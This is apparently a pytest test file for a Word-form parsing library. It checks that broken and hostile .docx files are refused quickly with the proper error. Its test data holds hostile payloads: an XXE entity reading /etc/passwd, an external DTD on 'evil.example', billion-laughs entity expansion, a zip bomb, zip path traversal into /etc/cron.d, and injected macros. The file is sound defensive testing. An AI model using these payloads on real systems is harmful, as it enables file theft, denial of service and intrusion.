# ruff: noqa: E501
"""Files that mean harm or are broken: refused with the right error, quickly, never a traceback."""

from __future__ import annotations

import io
import random
import time
import zipfile
from collections.abc import Callable

import pytest

from sigdocs.errors import NotAForm, SigdocsError, Unreadable, Unsafe
from sigdocs.parsing import parse
from sigdocs.reference.definitions import form_definitions
from sigdocs.workflows.opening import open_form
from tests.parsing.cases import NOTIFICATION
from tests.parsing.hands import Hand, cell, fill_in, package, paragraph, row, table
from tests.parsing.test_hands import N

GOOD = fill_in(N, NOTIFICATION, Hand())


def read(content: bytes, suffix: str = ".docx") -> object:
    return parse(content, suffix=suffix, definitions=form_definitions())


def rebuilt(
    change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None
) -> bytes:
    """The good form with each part changed (None = left out) and parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as source, zipfile.ZipFile(out, "w", 8) as target:
        for name in source.namelist():
            data = change(name, source.read(name))
            if data is not None:
                target.writestr(name, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def body(text: str) -> Callable[[str, bytes], bytes]:
    return lambda name, data: text.encode() if name == "word/document.xml" else data


def same(name: str, data: bytes) -> bytes:
    return data


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS = "<!DOCTYPE w [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
UNREADABLE = {
    "empty": b"",
    "spaces": b"  \n ",
    "text called .docx": b"Dear secretariat, please find attached",
    "half a zip": GOOD[: len(GOOD) // 2],
    "zip without its end": GOOD[:-30],
    "bytes cut out of a zip": GOOD[:60] + GOOD[61:],
    "first bytes only": b"PK\x03\x04",
    "encrypted": OLE + "EncryptedPackage".encode("utf-16-le"),
    "old Word": OLE,
    "no document": rebuilt(lambda n, d: None if n == "word/document.xml" else d),
    "document is no XML": rebuilt(body("<w:document")),
    "document is empty": rebuilt(body("")),
    "document has no body": rebuilt(body(f"<w:document xmlns:w='{W}'/>")),
    "some other zip": rebuilt(lambda n, d: None, {"a.txt": b"x"}),
}
UNSAFE = {
    "macros by name": rebuilt(same, {"word/vbaProject.bin": b"x"}),
    "macros by type": rebuilt(
        lambda n, d: d.replace(b"document.main", b"macroEnabled.main") if "Types" in n else d
    ),
    "laughs": rebuilt(body(f"{LAUGHS}]><w:document xmlns:w='{W}'><w:body>&i;</w:body></w:document>")),
    "laughs in an attribute": rebuilt(body(f"{LAUGHS}]><w:document xmlns:w='{W}' w:a='&i;'/>")),
    "outside entity": rebuilt(
        body(f"<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><w:document xmlns:w='{W}'>&x;</w:document>")
    ),
    "outside document type": rebuilt(
        body(f"<!DOCTYPE w SYSTEM 'http://evil.example/x.dtd'><w:document xmlns:w='{W}'/>")
    ),
    "outside document type in UTF-16": rebuilt(
        lambda n, d: f"<!DOCTYPE w SYSTEM 'x.dtd'><w:document xmlns:w='{W}'/>".encode("utf-16")
        if n == "word/document.xml"
        else d
    ),
    "10,000 tables in tables": rebuilt(
        body(f"<w:document xmlns:w='{W}'><w:body>" + "<w:tbl><w:tr><w:tc>" * 10_000)
    ),
    "bomb": rebuilt(same, {"word/bomb.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}),
    "path trick": rebuilt(same, {"../../etc/cron.d/x": b"x"}),
    "absolute path": rebuilt(same, {"/etc/x": b"x"}),
    "drive": rebuilt(same, {"C:/x": b"x"}),
    "two of one name": rebuilt(same, {"WORD/document.xml": b"<x/>"}),
    "old Word with macros": OLE + "_VBA_PROJECT".encode("utf-16-le"),
}  # fmt: skip


@pytest.mark.parametrize("content", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_broken_files_are_unreadable(content: bytes) -> None:
    with pytest.raises(Unreadable) as refused:
        read(content)
    assert refused.value.exit_code == 10


@pytest.mark.parametrize("content", UNSAFE.values(), ids=UNSAFE.keys())
def test_harmful_files_are_refused_at_once(content: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(Unsafe) as refused:
        read(content)
    assert refused.value.exit_code == 13
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize("at", [50, 60, 80])
def test_a_spoilt_list_of_types_is_unreadable_however_it_is_opened(at: int) -> None:
    spoilt = bytearray(GOOD)
    spoilt[at : at + 20] = b"\xff" * 20
    with pytest.raises(Unreadable):
        open_form(bytes(spoilt))


def test_an_entry_encrypted_with_a_password_is_unreadable() -> None:
    marked = bytearray(GOOD)
    for mark, flag in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = marked.find(mark)
        while at >= 0:
            marked[at + flag] |= 1
            at = marked.find(mark, at + 4)
    with pytest.raises(Unreadable):
        read(bytes(marked))


def test_a_workbook_is_not_a_form() -> None:
    with pytest.raises(NotAForm):
        read(rebuilt(body("<workbook xmlns='urn:x'/>")))


def test_a_form_too_long_to_be_one_still_ends() -> None:
    rows = "".join(
        row(cell(paragraph(f"Date: {n}")), cell(paragraph("x" * 50))) for n in range(4000)
    )
    started = time.perf_counter()
    with pytest.raises(NotAForm):
        read(package(table(rows)))
    assert time.perf_counter() - started < 20


def test_a_file_of_endless_paragraphs_is_refused_in_bounded_time() -> None:
    dice = random.Random(1)
    text = "".join(
        f"<w:p w:a='{dice.random()}'><w:r><w:t>Date:</w:t></w:r></w:p>" for _ in range(60_000)
    )
    started = time.perf_counter()
    with pytest.raises(Unsafe):
        read(package(text))
    assert time.perf_counter() - started < 20


def test_messages_hold_no_words_of_the_file() -> None:
    with pytest.raises(NotAForm) as refused:
        read(package(paragraph("Dr Vane harmed Mrs Okon")))
    assert "Vane" not in str(refused.value)


def mutations(seed: int) -> list[bytes]:
    """The good form with bytes flipped, cut, doubled; parts flipped, dropped, swapped."""
    dice = random.Random(seed)
    made = []
    for _ in range(60):
        data = bytearray(GOOD)
        for _ in range(dice.choice((1, 3, 20))):
            data[dice.randrange(len(data))] = dice.randrange(256)
        made.append(bytes(data))
    made += [GOOD[: dice.randrange(len(GOOD))] for _ in range(20)]
    names = zipfile.ZipFile(io.BytesIO(GOOD)).namelist()
    made += [rebuilt(lambda n, d, x=name: None if n == x else d) for name in names]
    for _ in range(120):
        made.append(rebuilt(lambda n, d: mangled(d, dice) if n == "word/document.xml" else d))
    return made


def mangled(data: bytes, dice: random.Random) -> bytes:
    """XML with elements cut out, doubled, moved or renamed; often still well-formed."""
    text = data.decode()
    pieces = text.split("<w:p>")
    kind = dice.randrange(5)
    if kind == 0:
        dice.shuffle(pieces)
    elif kind == 1:
        at = dice.randrange(1, len(pieces))
        pieces = pieces[:at] + pieces[at : at + 1] * 3 + pieces[at + 1 :]
    elif kind == 2:
        old = dice.choice(("w:tc>", "w:tr>", "w:tbl>", "w:r>", "w:t>", "w:tcPr>"))
        return text.replace(old, dice.choice(("w:sdt>", "w:ins>", "w:x>", "w:p>"))).encode()
    elif kind == 3:
        at = dice.randrange(len(text))
        return (
            text[:at] + dice.choice(("<", "&", "]]>", "\x00", "</w:p>", "﻿")) + text[at:]
        ).encode()
    else:
        word = dice.choice(("val='", "numId", "gridSpan", "w:vMerge", "a) ", "Date", "involved"))
        return text.replace(word, word[::-1]).encode()
    return "<w:p>".join(pieces).encode()


@pytest.mark.parametrize("seed", range(3))
def test_a_mutated_form_is_read_or_refused_but_never_breaks_the_reader(seed: int) -> None:
    outcomes = {"read": 0, "refused": 0}
    for content in mutations(seed):
        try:
            read(content)
            outcomes["read"] += 1
        except SigdocsError:
            outcomes["refused"] += 1
    assert min(outcomes.values()) > 20
